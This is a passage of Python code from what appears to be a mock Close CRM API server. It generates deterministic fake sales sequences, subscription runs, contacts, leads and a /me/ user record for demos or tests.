            return SEED_SEQUENCE
        return _generated(f"seq{index}", index)

    def _base_index(self, position: int) -> int:
        index = position
        for gone in sorted(self.deleted):
            if gone <= index:
                index += 1
        return index

    def sequence_at(self, position: int) -> dict[str, Any] | None:
        with self.lock:
            if position < len(self.inserted):
                return self.inserted[position]
            index = self._base_index(position - len(self.inserted))
            return self._base(index) if index < self.size else None

    def sequences(self, skip: int, limit: int) -> tuple[list[dict[str, Any]], bool]:
        items = []
        for position in range(skip, skip + limit):
            item = self.sequence_at(position)
            if item is None:
                break
            items.append(item)
        return items, skip + limit < self.count

    def index_of(self, sequence_id: str) -> int | None:
        if sequence_id == SEED_ID:
            return 0
        if not sequence_id.startswith("seq_") or len(sequence_id) != 26:
            return None
        index = _from_base62(sequence_id[-4:])
        if index is None or not 0 < index < self.size or index in self.deleted:
            return None
        return index if self._base(index)["id"] == sequence_id else None

    def sequence(self, sequence_id: str) -> dict[str, Any] | None:
        for item in self.inserted:
            if item["id"] == sequence_id:
                return item
        index = self.index_of(sequence_id)
        return None if index is None else self._base(index)

    def insert_head(self, name: str | None = None) -> dict[str, Any]:
        """A sequence created while someone pages: every later offset shifts by one."""
        with self.lock:
            n = len(self.inserted)
            item = dict(_generated(f"inserted{n}", self.size + 10_000 + n))
            item["id"] = "seq_" + _token(f"inserted{n}", 18) + "Ins" + ALPHABET[n % 62]
            item["name"] = name or f"Just created #{n + 1}"
            item["date_created"] = item["date_updated"] = _stamp(datetime.now(UTC))
            self.inserted.insert(0, item)
            return item

    def edit(
        self, sequence_id: str, change: Callable[[dict[str, Any]], None], *, by: int = 1
    ) -> dict[str, Any] | None:
        """Someone changes a sequence in Close: `change` edits a copy of it (its name, status,
        steps…), which the list and the detail serve from now on, updated now by user `by`."""
        with self.lock:
            for item in self.inserted:
                if item["id"] == sequence_id:
                    change(item)
                    item["date_updated"] = _stamp(datetime.now(UTC))
                    item["updated_by_id"] = USERS[by % len(USERS)]["id"]
                    return item
            index = self.index_of(sequence_id)
            if index is None:
                return None
            item = copy.deepcopy(self._base(index))
            change(item)
            item["date_updated"] = _stamp(datetime.now(UTC))
            item["updated_by_id"] = USERS[by % len(USERS)]["id"]
            self.edited[index] = item
            return item

    def delete(self, sequence_id: str) -> bool:
        with self.lock:
            for i, item in enumerate(self.inserted):
                if item["id"] == sequence_id:
                    del self.inserted[i]
                    return True
            index = self.index_of(sequence_id)
            if index is None:
                return False
            self.deleted.add(index)
            return True

    # -- subscriptions --------------------------------------------------------------------

    def subscription_total(self, sequence_id: str) -> int:
        if sequence_id == SEED_ID:
            return SEED_RUNS if self.big is None else self.big
        rng = random.Random(f"subs/{sequence_id}")
        return rng.choice([0, 3, 12, 40, 90, 150, 260, 420])

    def _cycled(self, sequence_id: str) -> bool:
        """The big sequence's statuses follow a cycle, so that its counts are arithmetic."""
        return self.big is not None and sequence_id == SEED_ID

    def subscriptions(
        self, sequence_id: str, skip: int, limit: int
    ) -> tuple[list[dict[str, Any]], bool]:
        gone = sorted(self.removed_runs.get(sequence_id, ()))
        total = self.subscription_total(sequence_id) - len(gone)
        end = min(total, skip + limit)
        js = [_past(j, gone) for j in range(skip, end)]
        if js:
            with self.lock:
                self._recent_pages = [*self._recent_pages[-(_PAGES_KEPT - 1) :],
                                      (sequence_id, js[0], js[-1])]  # fmt: skip
        return [
            self.run_edits.get((sequence_id, j)) or self._run_item(sequence_id, j) for j in js
        ], end < total

    def edit_run(self, sequence_id: str, j: int, change: Callable[[dict[str, Any]], None]) -> None:
        """Run `j` of a sequence changes in Close (say, it errors): the list serves it so."""
        run = copy.deepcopy(self.run_edits.get((sequence_id, j)) or self._run_item(sequence_id, j))
        change(run)
        self.run_edits[(sequence_id, j)] = run

    def subscription_counts(self, sequence_id: str) -> dict[str, int]:
        total = self.subscription_total(sequence_id)
        if self._cycled(sequence_id):
            counts = _cycled_counts(total)
        else:
            counts = _drawn_counts(sequence_id, total)
        found = dict(zip(_SUB_COUNTED, counts, strict=True))  # the people's runs keep these
        for change in self.run_changes.values():  # what the API changed since
            if change.sequence_id == sequence_id and change.was in found:
                found[change.was] -= 1
                if change.status in found:
                    found[change.status] += 1
        return found

    # -- changes through the API ------------------------------------------------------------

    def _run_item(self, sequence_id: str, j: int) -> dict[str, Any]:
        item = self._subscription(sequence_id, j)
        change = self.run_changes.get(item["id"])
        if change is not None:
            item.update(change.fields())
        return item

    def _find_run(self, run_id: str) -> tuple[str, int] | None:
        """Where a run id comes from: a change made before, the pages served lately, else a
        search of every sequence's first runs (a run this server never listed)."""
        if not run_id.startswith("sub_") or len(run_id) != 26:
            return None
        change = self.run_changes.get(run_id)
        if change is not None:
            return change.sequence_id, change.j
        with self.lock:
            recent = list(self._recent_pages)
        for sequence_id, first, last in reversed(recent):
            for j in range(first, last + 1):
                if "sub_" + _token(f"sub/{sequence_id}/{j}", 22) == run_id:
                    return sequence_id, j
        for position in range(self.count):
            found = self.sequence_at(position)
            if found is None:
                break
            sequence_id = found["id"]
            for j in range(min(self.subscription_total(sequence_id), _SEARCHED_RUNS)):
                if "sub_" + _token(f"sub/{sequence_id}/{j}", 22) == run_id:
                    return sequence_id, j
        return None

    def run(self, run_id: str) -> dict[str, Any] | None:
        """`GET /sequence_subscription/{id}/`: the run, with what the API changed; None when
        there is no such run (or it was removed)."""
        place = self._find_run(run_id)
        if place is None or place[1] in self.removed_runs.get(place[0], ()):
            return None
        return self._run_item(*place)

    def change_run(self, run_id: str, status: str, reason: str | None) -> dict[str, Any] | None:
        """The run with a new status (and reason), as the API answers it; None: no such run."""
        place = self._find_run(run_id)
        item = self.run(run_id)
        if place is None or item is None:
            return None
        before = self.run_changes.get(run_id)
        was = before.was if before is not None else item["status"]
        stamp = _stamp(datetime.now(UTC))
        self.run_changes[run_id] = _Change(*place, was, status, reason, stamp)
        return self._run_item(*place)

    def remove_run(self, run_id: str) -> bool:
        place = self._find_run(run_id)
        if place is None or self.run(run_id) is None:
            return False
        item = self._run_item(*place)
        before = self.run_changes.get(run_id)
        was = before.was if before is not None else item["status"]
        # Counted as gone from the status it was generated with.
        self.run_changes[run_id] = _Change(*place, was, "", None, item["date_updated"])
        self.removed_runs.setdefault(place[0], set()).add(place[1])
        return True

    def _subscription(self, sequence_id: str, j: int) -> dict[str, Any]:
        run = _run(sequence_id, j, self._cycled(sequence_id))
        status, sender, started, rng = run.status, run.sender, run.started, run.rng
        key = f"{sequence_id}/{j}"
        if status in ("paused", "finished"):
            rng.random()  # drawn as it always was, so that the draws after it stay the same
        item = {
            "id": "sub_" + _token(f"sub/{key}", 22),
            "sequence_id": sequence_id,
            "contact_id": _party_id("cont", sequence_id, j),
            "lead_id": _party_id("lead", sequence_id, j),
            "contact_email": f"{run.first.lower()}.{run.last.lower()}@{run.company}.example",
            "status": status,
            "status_reason": None,  # drawn last, below
            "sender_name": f"{sender['first_name']} {sender['last_name']}",
            "sender_email": sender["email"],
            "sender_account_id": "emailacct_" + _token(f"acct/{sender['id']}", 43),
            "calls_assigned_to": [sender["id"]],
            # Close's own examples all have `start_date: null`: a good share here too.
            "start_date": None if rng.random() < 0.3 else _stamp(started),
            "organization_id": ORG_ID,
            "date_created": _stamp(started),
            "date_updated": _stamp(started + timedelta(days=rng.randrange(60))),
            "created_by_id": sender["id"],
            "updated_by_id": sender["id"],
        }
        item["status_reason"] = _reason(status, rng)
        member = self._people_at(sequence_id).get(j)
        if member is not None:
            person, status, reason = member
            item.update(
                contact_id=person.contact_id,
                lead_id=person.lead_id,
                contact_email=person.email,
                status=status,
                status_reason=reason,
            )
        return item

    # -- people in several sequences ---------------------------------------------------

    def _people_at(self, sequence_id: str) -> dict[int, tuple[DemoPerson, str, str | None]]:
        """The runs of a sequence that belong to the demo's people, by j: worked out once
        per sequence, and only for the few sequences the people are in."""
        if sequence_id in self._people:
            return self._people[sequence_id]
        # Which index the id would be, read from the id alone: most sequences are no one's,
        # and are told so without generating anything.
        at = 0 if sequence_id == SEED_ID else _from_base62(sequence_id[-4:])
        if at not in _PEOPLE_INDICES or self._base(at)["id"] != sequence_id:
            return {}
        if sequence_id not in self._people:
            taken: dict[int, tuple[DemoPerson, str, str | None]] = {}
            for person in DEMO_PEOPLE:
                for index, status, reason in person.runs:
                    if (index == 0 and self.big is not None) or index >= self.size:
                        continue  # the big sequence's counts stay arithmetic
                    if index != at:
                        continue
                    j = self._slot_for(sequence_id, status, taken)
                    if j is not None:
                        taken[j] = (person, status, reason)
            self._people[sequence_id] = taken
        return self._people[sequence_id]

    def _slot_for(self, sequence_id: str, status: str, taken: dict[int, Any]) -> int | None:
        """The first run of a sequence drawn with `status` that is free and plain (not one
        whose lead was deleted, nor a hostile one)."""
        for j in range(self.subscription_total(sequence_id)):
            if j in taken or j % _LEAD_DELETED_EVERY == _LEAD_DELETED_AT:
                continue
            if j % _HOSTILE_RUN_EVERY == _HOSTILE_RUN_AT:
                continue
            if _run(sequence_id, j, False).status == status:
                return j
        return None

    def person(self, party_id: str) -> DemoPerson | None:
        for person in DEMO_PEOPLE:
            if party_id in (person.contact_id, person.lead_id):
                return person
        return None

    def person_runs(
        self, field: str, party_id: str, skip: int, limit: int, sequence_id: str | None = None
    ) -> tuple[list[dict[str, Any]], bool]:
        """`?contact_id=` / `?lead_id=` without (or with) `sequence_id`: a person's runs in
        every sequence, in sequence order."""
        places: list[tuple[str, int]] = []
        person = self.person(party_id)
        if person is not None and party_id == getattr(person, field, None):
            for index in dict.fromkeys(index for index, _, _ in person.runs):
                if (index == 0 and self.big is not None) or index >= self.size:
                    continue
                seq = self._base(index)["id"]
                places += [(seq, j) for j, m in self._people_at(seq).items() if m[0] is person]
        else:
            prefix = "cont" if field == "contact_id" else "lead"
            found = _party_run(prefix, party_id)
            if found is not None and found[1] < self.subscription_total(found[0]):
                places.append(found)
        runs = [
            self._run_item(seq, j)  # with what the API changed since
            for seq, j in places
            if j not in self.removed_runs.get(seq, ())
        ]
        runs = [r for r in runs if r[field] == party_id]  # not a slot one of the people took
        if sequence_id:
            runs = [r for r in runs if r["sequence_id"] == sequence_id]
        return runs[skip : skip + limit], skip + limit < len(runs)

    def contact(self, contact_id: str) -> dict[str, Any] | None:
        """`/contact/{id}/` in the documented schema's shape (`Contact`), with the runs it
        lists (`subscriptions[]`, `BasicSubscriptionInfoForContact`)."""
        person = self.person(contact_id)
        if person is not None:
            if person.contact_deleted or person.contact_id != contact_id:
                return None
            name, email, lead_id = person.name, person.email, person.lead_id
        else:
            found = _party_run("cont", contact_id)
            run = self._party("cont", contact_id)
            if found is None or run is None:
                return None
            name = f"{run.first} {run.last}"
            email = f"{run.first.lower()}.{run.last.lower()}@{run.company}.example"
            lead_id = _party_id("lead", *found)
        runs, _ = self.person_runs("contact_id", contact_id, 0, 1000)
        stamp = _stamp(_EPOCH + timedelta(days=200))
        return {
            "created_by": None,
            "date_created": stamp,
            "date_updated": stamp,
            "display_name": name,
            "emails": [{"email": email, "type": "office", "is_unsubscribed": False}],
            "id": contact_id,
            "integration_links": [],
            "lead_id": lead_id,
            "name": name,
            "organization_id": ORG_ID,
            "phones": [],
            "subscriptions": [
                {
                    "contact_email": r["contact_email"],
                    "date_created": r["date_created"],
                    "initial_email_id": None,
                    "sequence_id": r["sequence_id"],
                    "sequence_name": (self.sequence(r["sequence_id"]) or {}).get("name", ""),
                    "sequence_status": (self.sequence(r["sequence_id"]) or {}).get(
                        "status", "active"
                    ),
                    "start_date": r["start_date"],
                    "subscription_id": r["id"],
                    "subscription_status": r["status"],
                    "subscription_status_reason": r["status_reason"],
                }
                for r in runs
            ],
            "title": None,
            "updated_by": None,
            "urls": [],
        }

    def lead_extra(self, lead_id: str) -> dict[str, Any]:
        """What `/lead/{id}/` carries beyond its name, as the documented schema requires."""
        person = self.person(lead_id)
        if person is not None:
            contacts = [] if person.contact_deleted else [person.contact_id]
        else:
            found = _party_run("lead", lead_id)
            contacts = [_party_id("cont", *found)] if found is not None else []
        return {
            "contact_ids": contacts,
            "created_by": None,
            "date_updated": "2024-01-04T09:00:00.000000+00:00",
            "html_url": f"https://app.close.com/lead/{lead_id}/",
            "organization_id": ORG_ID,
            "status_id": "stat_" + _token("status0", 43),
            "updated_by": None,
            "url": None,
        }

    def search_contacts(self, text: str, by_email: bool, limit: int) -> list[dict[str, Any]]:
        """Contacts whose email is `text` or whose name has all its words: the demo's
        people, and the runs of the first sequences (not the big one's)."""
        wanted = text.casefold()
        words = wanted.split()

        def hit(name: str, email: str) -> bool:
            if by_email:
                return email.casefold() == wanted
            have = name.casefold().split()
            return bool(words) and all(w in have for w in words)

        found: dict[str, dict[str, Any]] = {}
        for person in DEMO_PEOPLE:
            if not person.contact_deleted and hit(person.name, person.email):
                found[person.contact_id] = self.contact(person.contact_id) or {}
        for index in range(1 if self.big is not None else 0, min(self.size, 20)):
            seq = self._base(index)["id"]
            for j in range(min(self.subscription_total(seq), 150)):
                if len(found) >= limit:
                    break
                run = _run(seq, j, False)
                email = f"{run.first.lower()}.{run.last.lower()}@{run.company}.example"
                contact_id = _party_id("cont", seq, j)
                if contact_id not in found and hit(f"{run.first} {run.last}", email):
                    contact = self.contact(contact_id)
                    if contact is not None:
                        found[contact_id] = contact
        return list(found.values())[:limit]

    def _party(self, prefix: str, party_id: str) -> _Run | None:
        found = _party_run(prefix, party_id)
        if found is None:
            return None
        sequence_id, j = found
        if j >= self.subscription_total(sequence_id):
            return None
        return _run(sequence_id, j, self._cycled(sequence_id))

    def lead_name(self, lead_id: str) -> str | None:
        """The name of a lead a run belongs to, from its id; None if there is no such lead
        (or it has been deleted since, as every 53rd run's has)."""
        person = self.person(lead_id)
        if person is not None:
            return person.company if person.lead_id == lead_id else None
        run = self._party("lead", lead_id)
        return run.lead_name if run is not None else None

    def contact_name(self, contact_id: str) -> str | None:
        person = self.person(contact_id)
        if person is not None:
            gone = person.contact_deleted or person.contact_id != contact_id
            return None if gone else person.name
        run = self._party("cont", contact_id)
        return f"{run.first} {run.last}" if run is not None else None

    # -- lookups --------------------------------------------------------------------------

    def using(self, template_id: str, among: int = 200) -> list[dict[str, str]]:
        """Sequences (of the first `among`) whose steps use an email template."""
        found = []
        for position in range(min(among, self.count)):
            item = self.sequence_at(position)
            if item is not None and any(
                step.get("email_template_id") == template_id for step in item["steps"]
            ):
                found.append({"id": item["id"], "name": item["name"]})
        return found

    @staticmethod
    def me() -> dict[str, Any]:
        """`/me/` as Close documents it: the user, with full organization objects,
        memberships, email accounts and phone numbers."""
        user = dict(USERS[0])
        user["organizations"] = [
            {
                "created_by": None,
                "date_created": _stamp(_EPOCH - timedelta(days=500), offset=True),
                "date_updated": _stamp(_EPOCH - timedelta(days=10), offset=True),
                "id": ORG_ID,
                "lead_statuses": [
                    {"id": "stat_" + _token(f"status{n}", 43), "label": label}
                    for n, label in enumerate(("Potential", "Bad Fit", "Qualified"))
                ],
                "name": ORG_NAME,
                "pipelines": [
                    {
                        "created_by": user["id"],
                        "date_created": _stamp(_EPOCH - timedelta(days=200)),
                        "date_updated": _stamp(_EPOCH - timedelta(days=100)),
                        "id": "pipe_" + _token("pipeline", 22),
                        "name": "Sales",
                        "organization_id": ORG_ID,
                        "statuses": [
                            {"id": "stat_" + _token(f"opp{kind}", 43), "label": label, "type": kind}
                            for label, kind in (("Active", "active"), ("Won", "won"))
                        ],
                        "updated_by": user["id"],
                    }
                ],
                "updated_by": None,
            }
        ]
        user["email_accounts"] = [
            {
                "_type": "google",
                "id": "emailacct_" + _token(f"acct/{user['id']}", 43),
                "identities": [
                    {"email": user["email"], "name": f"{user['first_name']} {user['last_name']}"}
                ],
                "organization_id": ORG_ID,
                "user_id": user["id"],
            }
        ]
        user["last_used_timezone"] = "America/Denver"
        user["memberships"] = [
            {
                "auto_record_calls": "disabled",
                "id": "memb_" + _token("membership", 43),
                "organization_id": ORG_ID,
                "permissions_granted": ["bulk_edit", "export"],
                "role_id": "role_" + _token("role", 43),
                "track_email_opens": True,
                "user_id": user["id"],
            }
        ]
        user["phone_numbers"] = [
            {
                "date_created": _stamp(_EPOCH, offset=True),
                "date_updated": _stamp(_EPOCH, offset=True),
                "id": "phon_" + _token("phone", 43),
                "number": "+16505550100",
                "organization_id": ORG_ID,
            }
        ]
        return user
